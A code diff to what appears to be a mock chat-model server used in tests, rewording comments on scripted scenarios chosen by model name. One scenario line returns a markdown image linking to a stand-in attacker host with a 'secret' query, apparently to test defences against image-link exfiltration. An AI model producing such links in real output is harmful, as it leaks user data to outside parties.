@@ -1,11 +1,11 @@
 import { type ChatRequest, quotationsOf, type Script } from "./openai.ts";
 
 /**
- * What the stand-in does for each name of a model, so that every branch can be driven from outside: by OPENAI_MODEL, by an
- * agent's own `model`, or by a message that holds `use-model:<name>`.
+ * Scripts by model name, so that each can be chosen by OPENAI_MODEL, by an agent's own `model`, or by a message that
+ * contains `use-model:<name>`.
  */
 const SCENARIOS: Record<string, (request: ChatRequest, count: number) => Script> = {
-  /** Answers from the first passage, a word at a time; says so where there is none. */
+  /** Answers from the first passage, one word per delta. */
   answer: (request) => answerFrom(request),
   /** The same at 50 tokens a second. */
   steady: (request) => ({ ...answerFrom(request), pieceMs: 20 }),
@@ -57,7 +57,7 @@ const SCENARIOS: Record<string, (request: ChatRequest, count: number) => Script>
   link: () => ({ text: ["@sources p1\n", "See ![chart](https://evil.test/?q=secret) there."] }),
 };
 
-/** What the stand-in does with a request. */
+/** The script for a request. */
 export function scenarioOf(request: ChatRequest, count: number): Script {
   const wanted = /use-model:([\w-]+)/.exec(questionOf(request))?.[1] ?? request.model;
   const scenario = SCENARIOS[wanted];
